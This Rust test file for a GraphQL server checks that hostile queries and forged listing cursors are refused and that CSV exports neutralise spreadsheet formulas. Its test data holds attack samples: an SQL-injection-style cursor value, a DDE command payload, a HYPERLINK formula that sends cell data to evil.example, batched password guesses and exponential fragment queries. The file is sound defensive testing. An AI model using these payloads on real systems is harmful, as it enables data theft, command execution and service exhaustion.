//! Hostile documents and cursors: what an attacker sends is refused with a code before it
//! costs anything, and nothing it asked for is written.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use canyu_tests::{PASSWORD, TestApp, assert_code};
use serde_json::{Value, json};

use crate::support::{auth, create_community, db_queries, ok, submit};

/// `query{...F0} fragment F0 on QueryRoot{...F1 ...F1} … fragment F<n> on QueryRoot{__typename}`:
/// 900 bytes at 22 levels, and 2^22 paths through its spreads.
fn doubling_fragments(levels: usize) -> String {
    let mut query = String::from("query{...F0}");
    for i in 0..levels {
        query.push_str(&format!(
            " fragment F{i} on QueryRoot{{...F{} ...F{}}}",
            i + 1,
            i + 1
        ));
    }
    query.push_str(&format!(" fragment F{levels} on QueryRoot{{__typename}}"));
    query
}

const LOG_IN: &str = "logIn(input: {handle: \"victim\", password: \"PASSWORD\"}) { accessToken }";

#[tokio::test]
async fn fragments_that_spread_each_other_twice_over_are_too_complex() {
    let app = TestApp::spawn().await;
    let body = app.graphql(&doubling_fragments(22), json!({}), None).await;
    assert_code(&body, "QUERY_TOO_COMPLEX");
    assert!(body["data"].is_null(), "{body}");
    // A few levels of the same shape are an ordinary document.
    let body = app.graphql(&doubling_fragments(3), json!({}), None).await;
    assert_eq!(body["data"]["__typename"], "QueryRoot", "{body}");
}

#[tokio::test]
async fn more_than_fifteen_aliases_are_too_complex() {
    let app = TestApp::spawn().await;
    let aliases = |n: usize| {
        let fields: String = (0..n).map(|i| format!("a{i}: __typename ")).collect();
        format!("{{ {fields} }}")
    };
    let body = app.graphql(&aliases(15), json!({}), None).await;
    assert_eq!(body["data"]["a14"], "QueryRoot", "{body}");
    let body = app.graphql(&aliases(16), json!({}), None).await;
    assert_code(&body, "QUERY_TOO_COMPLEX");
}

#[tokio::test]
async fn a_document_of_many_password_guesses_is_refused_whole() {
    let app = TestApp::spawn().await;
    app.sign_up("victim").await;
    let sessions = app.count("refresh_token").await;
    // Twelve guesses, the right one among them: none runs, no token is handed out.
    let guesses: String = (0..12)
        .map(|i| {
            let password = if i == 7 {
                PASSWORD.to_string()
            } else {
                format!("guess number {i}")
            };
            format!("g{i}: {} ", LOG_IN.replace("PASSWORD", &password))
        })
        .collect();
    let body = app
        .graphql(&format!("mutation {{ {guesses} }}"), json!({}), None)
        .await;
    assert_code(&body, "BAD_USER_INPUT");
    assert!(body["data"].is_null(), "{body}");
    assert_eq!(app.count("refresh_token").await, sessions);
    // The same through a fragment, and two different credential mutations.
    let body = app
        .graphql(
            &format!(
                "mutation {{ ...Guess {} }} fragment Guess on MutationRoot {{ {} }}",
                LOG_IN.replace("PASSWORD", "guess one"),
                LOG_IN.replace("PASSWORD", PASSWORD)
            ),
            json!({}),
            None,
        )
        .await;
    assert_code(&body, "BAD_USER_INPUT");
    let body = app
        .graphql(
            &format!(
                "mutation {{ {} refreshSession(refreshToken: \"x\") {{ accessToken }} }}",
                LOG_IN.replace("PASSWORD", PASSWORD)
            ),
            json!({}),
            None,
        )
        .await;
    assert_code(&body, "BAD_USER_INPUT");
    assert_eq!(app.count("refresh_token").await, sessions);
}

#[tokio::test]
async fn documents_over_the_size_token_or_nesting_limits_are_refused() {
    let app = TestApp::spawn().await;
    // Two thousand and one tokens in 4 KB: refused for its tokens, not its bytes.
    let tokens = format!("{{ {} }}", "a ".repeat(2001));
    assert!(tokens.len() < 16 * 1024);
    assert_code(
        &app.graphql(&tokens, json!({}), None).await,
        "QUERY_TOO_LARGE",
    );
    let bytes = format!("{{ __typename }}{}", " ".repeat(16 * 1024));
    let refused = app.graphql(&bytes, json!({}), None).await;
    assert_code(&refused, "QUERY_TOO_LARGE");
    // A refusal of the whole document points at no place in it (a location is 1-based).
    assert!(refused["errors"][0].get("locations").is_none(), "{refused}");
    let deep = format!("{}{}", "{ viewer ".repeat(40), "}".repeat(40));
    assert_code(&app.graphql(&deep, json!({}), None).await, "QUERY_TOO_DEEP");
}

#[tokio::test]
async fn an_operation_over_the_time_limit_is_stopped_and_keeps_nothing() {
    let app = TestApp::spawn_with(&[("REQUEST_TIMEOUT_MS", "1")]).await;
    // Signing up hashes a password, which takes far longer than a millisecond.
    let body = app
        .graphql(
            "mutation($input: SignUpInput!) { signUp(input: $input) { accessToken } }",
            json!({ "input": { "handle": "slow", "password": PASSWORD, "displayName": "Slow" } }),
            None,
        )
        .await;
    assert_code(&body, "TIMEOUT");
    // The hash that was under way may finish, but its account is never written.
    tokio::time::sleep(std::time::Duration::from_millis(500)).await;
    assert_eq!(app.count("user").await, 0);
    assert_eq!(app.count("refresh_token").await, 0);
}

/// A listing cursor's signed payload, decoded; and one re-assembled around an edited payload
/// with the old signature.
fn edit_cursor(cursor: &str, edit: impl Fn(&mut Value)) -> String {
    let (body, signature) = cursor.split_once('.').expect("a signed cursor");
    let mut payload: Value =
        serde_json::from_slice(&URL_SAFE_NO_PAD.decode(body).unwrap()).unwrap();
    edit(&mut payload);
    let body = URL_SAFE_NO_PAD.encode(serde_json::to_vec(&payload).unwrap());
    format!("{body}.{signature}")
}

#[tokio::test]
async fn an_edited_listing_cursor_is_bad_user_input() {
    let app = TestApp::spawn().await;
    let owner = app.sign_up("owner").await;
    let community = create_community(&app, &owner, "phones", "PUBLIC").await;
    for title in ["First idea", "Second idea", "Third idea"] {
        submit(&app, &owner, &community, title).await;
    }
    let list = "query($c: ID, $after: String) { suggestions(communityId: $c, sort: TOP, first: 1, after: $after) { edges { node { id } } pageInfo { endCursor } } }";
    let body = app
        .graphql(list, json!({ "c": community }), auth(&owner))
        .await;
    let cursor = ok(&body, "suggestions")["pageInfo"]["endCursor"]
        .as_str()
        .unwrap()
        .to_string();
    let body = app
        .graphql(
            list,
            json!({ "c": community, "after": cursor }),
            auth(&owner),
        )
        .await;
    ok(&body, "suggestions");

    let edits = [
        // A snapshot the server never took (it reaches SQL as a snapshot on Postgres).
        ("snapshot", json!("1:2:garbage")),
        // A cursor made to look new, so that it never expires.
        ("taken_at", json!(4_102_444_800i64)),
        ("key", json!("-1 OR 1=1")),
    ];
    for (what, value) in edits {
        let forged = edit_cursor(&cursor, |payload| payload[what] = value.clone());
        let body = app
            .graphql(
                list,
                json!({ "c": community, "after": forged }),
                auth(&owner),
            )
            .await;
        assert_code(&body, "BAD_USER_INPUT");
        assert_eq!(
            body["errors"][0]["extensions"]["field"], "after",
            "{what}: {body}"
        );
    }
}

#[tokio::test]
async fn partner_text_that_a_spreadsheet_would_run_is_exported_as_text() {
    let app = TestApp::spawn().await;
    let admin = app.admin("finance").await;
    let community = create_community(&app, &admin, "phones", "PUBLIC").await;
    let idea = submit(&app, &admin, &community, "A longer battery").await;
    let line = "+cmd|' /C calc'!A0";
    let body = app
        .graphql(
            "mutation($input: AdoptSuggestionInput!) { adoptSuggestion(input: $input) { id } }",
            json!({ "input": {
                "suggestionId": idea, "productLine": line, "currency": "USD",
                "startsAt": "2025-01-01T00:00:00Z",
            } }),
            auth(&admin),
        )
        .await;
    ok(&body, "adoptSuggestion");
    let external = "=HYPERLINK(\"http://evil.example/?leak=\"&A1)";
    let body = app
        .graphql(
            "mutation($input: ReportSalesInput!) { reportSales(input: $input) { id } }",
            json!({ "input": {
                "externalId": external, "productLine": line, "periodStart": "2025-03-01T00:00:00Z",
                "periodEnd": "2025-04-01T00:00:00Z", "netSales": "1000.00", "currency": "USD",
            } }),
            auth(&admin),
        )
        .await;
    ok(&body, "reportSales");
    let response = app
        .client
        .get(format!("{}/exports/revenue-shares.csv", app.address))
        .bearer_auth(&admin.access_token)
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    let text = response.text().await.unwrap();
    let mut reader = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let column = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let record = reader.records().next().expect("one record").unwrap();
    assert_eq!(&record[column("external_id")], format!("'{external}"));
    assert_eq!(&record[column("product_line")], format!("'{line}"));
    // Amounts stay numbers.
    assert!(!record[column("amount")].starts_with('\''), "{record:?}");
}

#[tokio::test]
async fn a_pull_nesting_pages_under_every_change_is_refused_before_it_runs() {
    let app = TestApp::spawn().await;
    let user = app.sign_up("device").await;
    let pull = |nested: &str| {
        format!(
            "query($g: ID!) {{ pull(input: {{ clientGroupId: $g, protocolVersion: 1, schemaVersion: 2, \
             limit: 1000 }}) {{ cursor changes {{ ... on SuggestionChange {{ suggestion {{ id {nested} }} }} }} }} }}"
        )
    };
    let greedy = pull(
        "comments(first: 100) { nodes { body } } author { suggestions(first: 100) { nodes { id } } }",
    );
    let before = db_queries(&app).await;
    let body = app
        .graphql(
            &greedy,
            json!({ "g": crate::support::new_id() }),
            auth(&user),
        )
        .await;
    assert_code(&body, "QUERY_TOO_COMPLEX");
    assert_eq!(
        db_queries(&app).await,
        before + 1.0,
        "nothing ran but reading the token's account"
    );
    // The same page of changes without pages inside each is an ordinary pull.
    let body = app
        .graphql(
            &pull("title score"),
            json!({ "g": crate::support::new_id() }),
            auth(&user),
        )
        .await;
    ok(&body, "pull");
}

#[tokio::test]
async fn seed_demo_refuses_a_production_database() {
    let app = TestApp::spawn_with(&[("CANYU_ENV", "production")]).await;
    let refused = canyu::cli::demo::seed(&app.state, canyu::cli::demo::DemoSize::default()).await;
    assert_eq!(refused.unwrap_err().code(), "FORBIDDEN");
    assert_eq!(app.count("user").await, 0, "no demo account was made");
}

#[tokio::test]
async fn a_banned_user_loses_every_way_in_at_once() {
    let app = TestApp::spawn().await;
    let admin = app.admin("admin").await;
    let community = create_community(&app, &admin, "phones", "PUBLIC").await;
    let troll = crate::support::member(&app, "troll", &community).await;
    let body = app
        .graphql(
            "mutation($id: ID!) { setUserBanned(userId: $id, banned: true) { id } }",
            json!({ "id": troll.id }),
            auth(&admin),
        )
        .await;
    ok(&body, "setUserBanned");
    // The token in hand, the refresh token and the password all stop working.
    let posting = app
        .graphql(
            "mutation($c: ID!) { submitSuggestion(input: { communityId: $c, kind: IDEA, title: \"Still here\", body: \"\" }) { id } }",
            json!({ "c": community }),
            auth(&troll),
        )
        .await;
    assert_code(&posting, "UNAUTHENTICATED");
    let pulled = app
        .graphql(
            "query($g: ID!) { pull(input: { clientGroupId: $g, protocolVersion: 1, schemaVersion: 2 }) { cursor } }",
            json!({ "g": crate::support::new_id() }),
            auth(&troll),
        )
        .await;
    assert_code(&pulled, "UNAUTHENTICATED");
    let refreshed = app
        .graphql(
            "mutation($t: String!) { refreshSession(refreshToken: $t) { accessToken } }",
            json!({ "t": troll.refresh_token }),
            None,
        )
        .await;
    assert_code(&refreshed, "UNAUTHENTICATED");
    let logged_in = app
        .graphql(
            "mutation { logIn(input: { handle: \"troll\", password: \"correct horse battery\" }) { accessToken } }",
            json!({}),
            None,
        )
        .await;
    assert_code(&logged_in, "FORBIDDEN");
    assert_eq!(app.count("suggestion").await, 0);
}
